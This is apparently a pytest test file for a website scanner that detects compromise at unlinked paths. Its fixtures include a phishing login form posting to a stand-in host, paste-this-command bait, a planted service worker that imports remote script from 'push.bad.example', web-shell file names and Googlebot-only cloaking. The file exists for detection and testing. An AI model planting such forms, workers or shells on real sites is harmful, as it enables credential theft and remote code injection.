"""What thieves, gangs and intruders leave at addresses to which nobody links, each called by what it is."""

from __future__ import annotations

import pytest

from ..joined import verify
from .attacker import Ask, Reply, Twist, files_of, serving
from .conftest import Copy, checked, site_at

pytestmark = pytest.mark.servers
LOGIN = b'<title>CSDL</title><form action="https://x.bad.example/p"><input type="password"></form>'
OWN_LOGIN = b'<title>CSDL</title><form action="/vao"><input type="password"></form>'
PASTE = "<h1>Xác minh</h1><p>Nhấn Win + R, rồi Ctrl + V</p>".encode()
LIST = b'<title>Index of /x/</title><a href="../">..</a><a href="danh-sach-hoc-sinh.xlsx">x</a>'
PUSH = b"importScripts('https://push.bad.example/w.js');"


def present(pages: dict[str, bytes]) -> Twist:
    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path.lstrip("/") in pages:
            reply.status, reply.body = 200, pages[ask.path.lstrip("/")]

    return twist


LEFT = {
    "dang-nhap": (LOGIN, "login-form", "x.bad.example"),
    "login.html": (OWN_LOGIN, "login-form", "chính máy chủ này"),
    "user/login": (LOGIN, "login-form", "x.bad.example"),
    "xac-thuc.html": (PASTE, "command-bait", "Win + R"),
    "danh-sach-hoc-sinh.xlsx": (b"PK\3\4", "exposed", ""),
    "database.sql": (b"INSERT", "exposed", ""),
    "index.html.old": (b"<html>", "exposed", ""),
    "127.0.0.1.zip": (b"PK\3\4", "exposed", ""),
    "push-sw.js": (PUSH, "worker-planted", "push.bad.example"),
    "uploads/": (LIST, "exposed", "danh-sach-hoc-sinh.xlsx"),
    "upload/": (LIST.replace(b"danh-sach-hoc-sinh.xlsx", b"anh.jpg"), "extra", "liệt kê 1 tệp"),
    "slot/": (b'<a href="/VNeID.apk">x</a>', "program-offered", "VNeID.apk"),
    "casino/": (b"<title>Index of /casino/</title>kubet88.com", "doorway", "casino"),
    "alfa.php": (b"uid=33", "server-code", ""),
    "wso.php": (OWN_LOGIN, "server-code", "ô mật khẩu"),
    "adminer.php": (OWN_LOGIN, "admin-tool", "ô mật khẩu"),
    "phpmyadmin/": (OWN_LOGIN, "admin-tool", "chính máy chủ này"),
    "pma/": (LOGIN, "login-form", "x.bad.example"),
}  # fmt: skip


@pytest.mark.parametrize("name", LEFT)
def test_what_nobody_links_to_is_found_and_named(name: str, copy: Copy) -> None:
    body, kind, words = LEFT[name]
    assert checked(copy, present({name: body}), "check_probes") == {kind}
    assert words in copy.report["places"][kind, name]


@pytest.mark.parametrize(
    ("page", "kinds"),
    [(LOGIN, {"login-form"}), (PASTE, {"command-bait"}), ("<p>nổ hũ</p>".encode(), {"doorway"}), (OWN_LOGIN, set()), (b"<h1>Blocked</h1>", set())],
)  # fmt: skip
def test_what_is_behind_a_redirect_of_the_same_host(page: bytes, kinds: set[str], copy: Copy) -> None:
    """Firewalls lead to a page of theirs, and a house may have a login; what harms is told."""

    def twist(ask: Ask, reply: Reply) -> None:
        present({"cong/vao": page})(ask, reply)
        if ask.path in ("/login", "/wp-login.php"):
            reply.go("/cong/vao?x=1")

    assert checked(copy, twist, "check_probes") == kinds


@pytest.mark.parametrize(
    ("place", "kinds"),
    [("https://accounts.google.com/", set()), ("http://127.0.0.1:2083/", set()), ("/", set()), ("/dang-nhap/", set()),
     ("https://x.bad.example/", {"redirect-foreign"})],
)  # fmt: skip
def test_a_house_of_the_same_owner_may_have_a_login(place: str, kinds: set[str], copy: Copy) -> None:
    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == "/dang-nhap":
            reply.go(place)

    assert checked(copy, twist, "check_probes") == kinds


def test_every_name_has_its_day_and_few_are_asked_for_on_one() -> None:
    for hiding in verify.HIDING:
        days = [hiding.today(part) for part in range(60)]
        assert {name for day in days for name in day} == {*hiding.daily, *hiding.turned}
        assert all(len(day) <= len(hiding.daily) + hiding.a_day for day in days)
    names = [name for hiding in verify.HIDING for name in (*hiding.daily, *hiding.turned)]
    assert len(names) == len(set(names))


@pytest.mark.parametrize("day", range(3))
def test_the_requests_of_a_day_are_bounded(day: int, copy: Copy) -> None:
    with serving(files_of(copy.folder)) as server:
        site = site_at(server.server_port, copy)
        site.part = day
        verify.check_probes(site)
        assert server.count <= 340


LISTED = {
    "Apache": "<title>Index of /assets</title><a href='{0}'>{0}</a>",
    "IIS": "<A HREF='/'>[To Parent Directory]</A><A HREF='/assets/{0}'>{0}</A>",
    "a store of objects": "<?xml version='1.0'?><ListBucketResult><Key>assets/{0}</Key></ListBucketResult>",
}


@pytest.mark.parametrize("kind", LISTED)
@pytest.mark.parametrize(
    ("name", "found"),
    [("danh-sach-hoc-sinh.xlsx", "listing-names"), ("x.php", "server-code"), (".DS_Store", ""), ("mark.svg", "")],
)
def test_a_list_that_names_what_it_does_not_give(kind: str, name: str, found: str, copy: Copy) -> None:
    """The file itself may be refused to us today: that it is there is told."""
    faults = checked(copy, present({"assets/": LISTED[kind].format(name).encode()}), "check_probes")
    assert faults == ({found} if found else set())
    assert ("listing", "assets/") in copy.report["places"]
    assert not found or "danh sách thư mục nêu tên" in copy.report["places"][found, f"assets/{name}"]


def test_a_folder_that_is_listed_alone_is_read(copy: Copy) -> None:
    """Though `assets/` is not."""
    page = b"<title>Index of /bai</title><a href='hoc-sinh-6a.xlsx'>x</a>"
    assert checked(copy, present({"bai/": page}), "check_probes") == {"listing-names"}


@pytest.mark.parametrize(("status", "faults"), [(403, {"listing-names"}), (404, set())])
def test_any_file_that_a_list_names_and_the_host_refuses_is_said(status: int, faults: set[str], copy: Copy) -> None:
    """What is no more there is not."""

    def twist(ask: Ask, reply: Reply) -> None:
        present({"assets/": LISTED["Apache"].format("ke-hoach.docx").encode()})(ask, reply)
        if ask.path.endswith(".docx"):
            reply.status, reply.body = status, b""

    assert checked(copy, twist, "check_probes") == faults
    assert not faults or "trả lời 403" in copy.report["places"]["listing-names", "assets/ke-hoach.docx"]


APPS = {
    "assetlinks.json": b'[{"relation":["delegate_permission/common.handle_all_urls"],"target":{"namespace":"android_app","package_name":"vn.bad.app"}}]',
    "apple-app-site-association": b'{"applinks":{"apps":[],"details":[{"appID":"TEAM.vn.bad.app","paths":["*"]}]}}',
}


@pytest.mark.parametrize("name", APPS)
@pytest.mark.parametrize("own", [False, True])
def test_an_app_that_says_the_site_is_its_own(name: str, own: bool, copy: Copy) -> None:
    body = b"[]" if own else APPS[name]
    found = checked(copy, present({f".well-known/{name}": body}), "check_probes")
    assert found == (set() if own else {"ownership"})
    assert own or "vn.bad.app" in copy.report["places"]["ownership", f"/.well-known/{name}"]


@pytest.mark.parametrize("path", ["old/", "blog/", "test/", "backup/", "wp-admin/", "en/old/"])
@pytest.mark.parametrize("day", [0, 5])
def test_a_site_in_an_old_folder_is_met_on_any_day(path: str, day: int, copy: Copy) -> None:
    """Also where search engines alone are shown it."""

    def twist(ask: Ask, reply: Reply) -> None:
        if ask.path == f"/{path}" and ask.agent("Googlebot"):
            reply.status, reply.body = 200, "<title>Nổ hũ</title><a href='https://x.bad.example/'>nổ hũ</a>".encode()

    with serving(files_of(copy.folder), twist) as server:
        site = site_at(server.server_port, copy)
        site.part = day
        verify.check_probes(site)
    assert {where for kind, where in site.report.found if verify.KINDS[kind].level} == {path}
